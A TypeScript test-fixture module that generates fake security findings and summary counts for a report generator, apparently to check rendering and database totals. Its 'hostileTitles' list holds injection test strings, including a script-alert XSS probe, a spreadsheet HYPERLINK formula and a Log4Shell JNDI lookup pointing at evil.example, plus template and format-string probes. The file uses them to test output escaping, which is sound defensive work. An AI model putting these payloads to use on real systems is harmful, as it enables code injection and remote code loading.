import { isOpen, type Status, statuses } from '../findings/lifecycle.ts';
import { type Severity, severities } from '../findings/severity.ts';
import type { ReportFinding, ReportHead, ReportModel } from './report-model.ts';

/** Titles that break code that treats them as markup, and text of every kind of script. */
export const hostileTitles = [
  '#eval("1+1") $x^2$ *bold* _it_ `raw` <label> @ref = heading // comment \\ #set page(fill: red)',
  '</w:t></w:r><w:p/> ]]> <!-- <script>alert(1)</script> &amp; &#x0; "quoted" \'single\'',
  'A'.repeat(5_000),
  'left \u202Eright-to-left override\u202C \u2066isolate\u2069 \u200B zero width',
  'null \u0000 escape \u001B[31m bell \u0007 half \uD800 end \uFFFE',
  '=HYPERLINK("http://evil.example","click") +1 -1 @SUM(A1)',
  'Emoji 🔥🚀👩‍💻 · 漢字かな交じり文 · 한국어 텍스트 · עברית · العربية مثال · हिन्दी · ไทย · Ελληνικά · Кириллица',
  'line one\nline two\r\nline three\ttab\u2028separator',
  '#['.repeat(400),
  '%PDF-1.7 endobj stream ${jndi:ldap://evil.example/a} {{7*7}} %s%n',
];

const dayMs = 86_400_000;
const takenAt = Date.parse('2026-11-20T12:00:00Z');
const time = (at: number) => `${new Date(at).toISOString().slice(0, 19)}Z`;
const pick = <T>(values: readonly T[], index: number): T => values[index % values.length]!;

const rules = [
  { id: 'aws-access-token', name: 'AWS access key', source: 'secrets', severity: 'critical' },
  { id: 'CVE-2021-44228', name: 'Log4Shell', source: 'dependencies', severity: 'critical' },
  { id: 'sql-injection', name: 'SQL built from input', source: 'code', severity: 'high' },
  { id: 'public-bucket', name: 'Storage bucket open to the public', source: 'infrastructure', severity: 'high' },
  { id: 'missing-csp', name: 'No Content-Security-Policy', source: 'web', severity: 'medium' },
  { id: 'weak-hash', name: 'Weak hash for passwords', source: 'code', severity: 'medium' },
  { id: 'cookie-flags', name: 'Cookie without Secure', source: 'web', severity: 'low' },
  { id: 'todo-security', name: 'Note about security', source: 'code', severity: 'info' },
] as const;

const dataSources = [
  { id: 'ds_01jd3x7k2pfr6v0t9y8n7m6k5j', name: 'payments-api', kind: 'git_repository' },
  { id: 'ds_01jd3x7k2pfr6v0t9y8n7m6k5k', name: 'www.example.com', kind: 'website' },
  { id: 'ds_01jd3x7k2pfr6v0t9y8n7m6k5m', name: 'infrastructure-as-code', kind: 'git_repository' },
  { id: 'ds_01jd3x7k2pfr6v0t9y8n7m6k5n', name: 'bastion.example.com', kind: 'host' },
] as const;

const ada = { id: 'usr_01jd3x7k2pfr6v0t9y8n7m6k50', name: 'Ada Lovelace', email: 'ada@example.com' };

/** Returns the finding with this number, always the same. */
export function reportFinding(index: number, changes: Partial<ReportFinding> = {}): ReportFinding {
  const rule = pick(rules, index * 7 + Math.floor(index / 8));
  const dataSource = pick(dataSources, index * 3 + Math.floor(index / 11));
  const status: Status = pick(
    ['new', 'new', 'triaged', 'in_progress', 'new', 'resolved', 'accepted_risk', 'false_positive'],
    index * 5,
  );
  const firstSeen = takenAt - ((index * 37) % 420) * dayMs - index * 1000;
  const closed = isOpen(status) ? null : Math.min(takenAt, firstSeen + ((index * 13) % 40) * dayMs);
  const line = (index % 400) + 1;
  const path = `src/${pick(['billing', 'accounts', 'gateway'], index)}/handlers/module-${index % 90}.ts`;
  return {
    id: `fnd_01jd3x8v6z${String(index).padStart(16, '0')}`,
    title: `${rule.name} in ${path}`,
    description: `The rule **${rule.name}** found a place to review.\n\n- It is in \`${path}\`.\n- Everyone who can read it can use it.`,
    severity: rule.severity,
    status,
    source: rule.source,
    data_source: dataSource,
    rule: { id: rule.id, name: rule.name, url: index % 2 ? `https://rules.example.com/${rule.id}` : null },
    location: {
      path,
      start_line: line,
      end_line: line + (index % 3),
      start_column: 5,
      end_column: 40,
      commit: index % 2 ? '9fceb02d0ae598e95dc970b74767f19372d61af8' : null,
      url: rule.source === 'web' ? `https://www.example.com/page/${index}` : null,
      package:
        rule.source === 'dependencies'
          ? {
              ecosystem: 'npm',
              name: `left-pad-${index % 20}`,
              version: '1.0.0',
              fixed_version: '1.0.3',
              purl: `pkg:npm/left-pad-${index % 20}@1.0.0`,
            }
          : null,
    },
    identifiers: rule.source === 'dependencies' ? ['CVE-2021-44228', 'GHSA-jfh8-c2jp-5v3q'] : ['CWE-798'],
    cvss_score: index % 4 ? null : 9.8,
    evidence: index % 3 ? `const key = "AKIA…(redacted)"; // ${index}` : null,
    remediation: `Replace it, then **revoke** what stood there.\n\n1. Make a new one.\n2. Put it into a secret store.`,
    references: ['https://cwe.mitre.org/data/definitions/798.html'],
    tags: index % 5 ? [] : ['pci', 'q3'],
    assignee: index % 4 ? null : ada,
    fingerprint: `v1:${index.toString(36).padStart(22, '0')}`,
    occurrences: 1 + (index % 3),
    comment_count: index % 6 ? 0 : 2,
    resolution: status === 'resolved' ? 'fixed' : null,
    accepted_until: status === 'accepted_risk' ? time(takenAt + 20 * dayMs) : null,
    reopened_count: index % 10 ? 0 : 1,
    first_seen_at: time(firstSeen),
    last_seen_at: time(closed ?? takenAt),
    updated_at: time(closed ?? firstSeen),
    closed_at: closed === null ? null : time(closed),
    places: [
      { path, start_line: line, end_line: line, commit: null },
      { path: `${path}.bak`, start_line: 1, end_line: 1, commit: null },
    ],
    comments:
      index % 6
        ? []
        : [
            {
              author: 'Ada Lovelace',
              created_at: time(firstSeen + dayMs),
              comment: 'Seen. The key is *not* used in production.',
            },
            {
              author: null,
              created_at: time(firstSeen + 2 * dayMs),
              comment: 'Suppressed in the imported file: test data.',
            },
          ],
    ...changes,
  };
}

const tally = <Name extends string>(names: readonly Name[]) =>
  Object.fromEntries(names.map((name) => [name, 0])) as Record<Name, number>;

const ageBounds = [7, 30, 90, 180, 365, null];
const mondayOf = (at: number) => {
  const midnight = Math.floor(at / dayMs) * dayMs;
  return midnight - ((new Date(midnight).getUTCDay() + 6) % 7) * dayMs;
};

export const bySeverityStatusAndAge = (a: ReportFinding, b: ReportFinding): number =>
  severities.indexOf(a.severity) - severities.indexOf(b.severity) ||
  statuses.indexOf(a.status) - statuses.indexOf(b.status) ||
  (a.first_seen_at < b.first_seen_at ? -1 : a.first_seen_at > b.first_seen_at ? 1 : a.id < b.id ? -1 : 1);

/**
 * Returns the head of these findings, counted in a simple way, so that tests can compare it with PostgreSQL's counts.
 */
export function reportHead(findings: ReportFinding[], changes: Partial<ReportHead> = {}): ReportHead {
  const at = changes.taken_at ? Date.parse(changes.taken_at) : takenAt;
  const period = changes.period ?? { from: time(at - 30 * dayMs), to: time(at) };
  const inPeriod = (moment: string | null) => moment !== null && moment >= period.from && moment <= period.to;
  const open = findings.filter((finding) => isOpen(finding.status));
  const count = <Name extends string>(names: readonly Name[], values: Name[]) => {
    const figures = tally(names);
    for (const value of values) figures[value] = (figures[value] ?? 0) + 1;
    return figures;
  };
  const severityOf = (list: ReportFinding[]) =>
    count<Severity>(
      severities,
      list.map((finding) => finding.severity),
    );
  const sources = [...new Set(findings.map((finding) => finding.source))].sort();
  const byDataSource = [...new Map(findings.map((finding) => [finding.data_source.id, finding.data_source])).values()]
    .map((source) => {
      const own = findings.filter((finding) => finding.data_source.id === source.id);
      const openOnes = own.filter((finding) => isOpen(finding.status));
      return { ...source, open: openOnes.length, total: own.length, open_by_severity: severityOf(openOnes) };
    })
    .sort((a, b) => b.open - a.open || b.total - a.total || (a.id < b.id ? -1 : 1));
  const ageDays = (finding: ReportFinding) => Math.floor((at - Date.parse(finding.first_seen_at)) / dayMs);
  const thisMonday = mondayOf(at);
  const oldest = [...open].sort((a, b) =>
    a.first_seen_at < b.first_seen_at ? -1 : a.first_seen_at > b.first_seen_at ? 1 : a.id < b.id ? -1 : 1,
  );
  const openRules = [...new Set(open.map((finding) => finding.rule.id))].map((id) => {
    const own = oldest
      .filter((finding) => finding.rule.id === id)
      .sort((a, b) => severities.indexOf(a.severity) - severities.indexOf(b.severity));
    return {
      rule: { id, name: own[0]!.rule.name },
      severity: own[0]!.severity,
      open: own.length,
      data_sources: new Set(own.map((finding) => finding.data_source.id)).size,
      remediation: own[0]!.remediation,
      finding_id: own[0]!.id,
    };
  });
  openRules.sort(
    (a, b) =>
      severities.indexOf(a.severity) - severities.indexOf(b.severity) ||
      b.open - a.open ||
      (a.rule.id < b.rule.id ? -1 : 1),
  );
  const closedInPeriod = findings.filter((finding) => inPeriod(finding.closed_at));
  return {
    id: 'rpt_01jd3zb8m9n0p1q2r3s4t5v6w7',
    title: 'Findings of the third quarter',
    organization: { id: 'org_01jd3x7k2pfr6v0t9y8n7m6k5j', name: 'Example Industries' },
    created_by: { id: ada.id, name: ada.name },
    scheduled_report_id: null,
    taken_at: time(at),
    period,
    filters: {},
    selection: [],
    summary: {
      total: findings.length,
      by_severity: severityOf(findings),
      by_status: count<Status>(
        statuses,
        findings.map((finding) => finding.status),
      ),
      by_source: count(
        sources,
        findings.map((finding) => finding.source),
      ),
      by_data_source: byDataSource.map(({ id, name, open: openOnes, total }) => ({ id, name, open: openOnes, total })),
    },
    by_severity_and_status: Object.fromEntries(
      severities.map((severity) => [
        severity,
        count<Status>(
          statuses,
          findings.filter((finding) => finding.severity === severity).map((finding) => finding.status),
        ),
      ]),
    ) as ReportHead['by_severity_and_status'],
    open: open.length,
    open_by_severity: severityOf(open),
    open_by_source: count(
      sources,
      open.map((finding) => finding.source),
    ),
    source_names: Object.fromEntries(sources.map((source) => [source, source[0]!.toUpperCase() + source.slice(1)])),
    top_data_sources: byDataSource
      .filter((source) => source.open > 0)
      .slice(0, 10)
      .map(({ total: _, ...source }) => source),
    in_period: {
      opened: findings.filter((finding) => inPeriod(finding.first_seen_at)).length,
      opened_still_open: open.filter((finding) => inPeriod(finding.first_seen_at)).length,
      closed: closedInPeriod.length,
      resolved: closedInPeriod.filter((finding) => finding.status === 'resolved').length,
    },
    reopened: open.filter((finding) => finding.reopened_count > 0).length,
    unassigned_open: severityOf(open.filter((finding) => finding.assignee === null)),
    accepted_risks: {
      total: findings.filter((finding) => finding.status === 'accepted_risk').length,
      ending_soon: findings.filter(
        (finding) => finding.accepted_until !== null && Date.parse(finding.accepted_until) <= at + 30 * dayMs,
      ).length,
    },
    weekly: Array.from({ length: 26 }, (_, index) => {
      const start = thisMonday - (25 - index) * 7 * dayMs;
      const within = (moment: string | null) =>
        moment !== null && Date.parse(moment) >= start && Date.parse(moment) < start + 7 * dayMs;
      const before = (moment: string | null) => moment !== null && Date.parse(moment) < start + 7 * dayMs;
      return {
        week: time(start).slice(0, 10),
        opened: findings.filter((finding) => within(finding.first_seen_at)).length,
        closed: findings.filter((finding) => within(finding.closed_at)).length,
        open: findings.filter((finding) => before(finding.first_seen_at) && !before(finding.closed_at)).length,
      };
    }),
    age: ageBounds.map((bound, index) => ({
      up_to_days: bound,
      by_severity: severityOf(
        open.filter(
          (finding) =>
            (bound === null || ageDays(finding) < bound) && (index === 0 || ageDays(finding) >= ageBounds[index - 1]!),
        ),
      ),
    })),
    oldest_open: oldest.slice(0, 5).map((finding) => ({
      id: finding.id,
      title: finding.title,
      severity: finding.severity,
      data_source: finding.data_source.name,
      first_seen_at: finding.first_seen_at,
      age_days: ageDays(finding),
    })),
    first_steps: openRules.slice(0, 5),
    ...changes,
  };
}

async function* inBatches(findings: ReportFinding[], max: number): AsyncGenerator<ReportFinding[]> {
  const size = 250;
  for (let start = 0; start < Math.min(findings.length, max); start += size)
    yield findings.slice(start, Math.min(start + size, max));
}

/** Returns a report on these findings; `max` limits them as for a writer that needs no more. */
export function reportOf(
  findings: ReportFinding[],
  changes: Partial<ReportHead> = {},
  max = Number.POSITIVE_INFINITY,
): ReportModel {
  const ordered = [...findings].sort(bySeverityStatusAndAge);
  return { head: reportHead(ordered, changes), findings: inBatches(ordered, max) };
}

/** Returns this many findings, which include all the hostile titles if there is room. */
export function reportFindings(count: number, { hostile = true } = {}): ReportFinding[] {
  return Array.from({ length: count }, (_, index) => {
    const title = hostile && count >= 20 && index % 2 === 1 ? hostileTitles[(index - 1) / 2] : undefined;
    return reportFinding(
      index,
      title === undefined
        ? {}
        : {
            title,
            evidence: title,
            comments: [{ author: title.slice(0, 200), created_at: time(takenAt), comment: title }],
            comment_count: 1,
          },
    );
  });
}

export async function bytesOf(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const parts: Uint8Array[] = [];
  for await (const piece of pieces) parts.push(piece);
  return Buffer.concat(parts);
}
